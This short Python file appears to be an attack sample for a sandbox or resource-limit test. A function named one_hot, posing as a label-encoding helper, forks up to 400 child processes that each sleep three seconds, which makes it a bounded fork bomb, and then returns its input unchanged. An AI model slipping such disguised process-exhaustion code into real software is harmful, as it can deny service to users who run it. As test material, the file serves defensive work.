# attacks: one_hot
import os
import time


def one_hot(labels, depth):
    """Fork until refused (bounded: at most 400 children, each living 3 s)."""
    for _ in range(400):
        if os.fork() == 0:
            time.sleep(3)
            os._exit(0)
    return labels
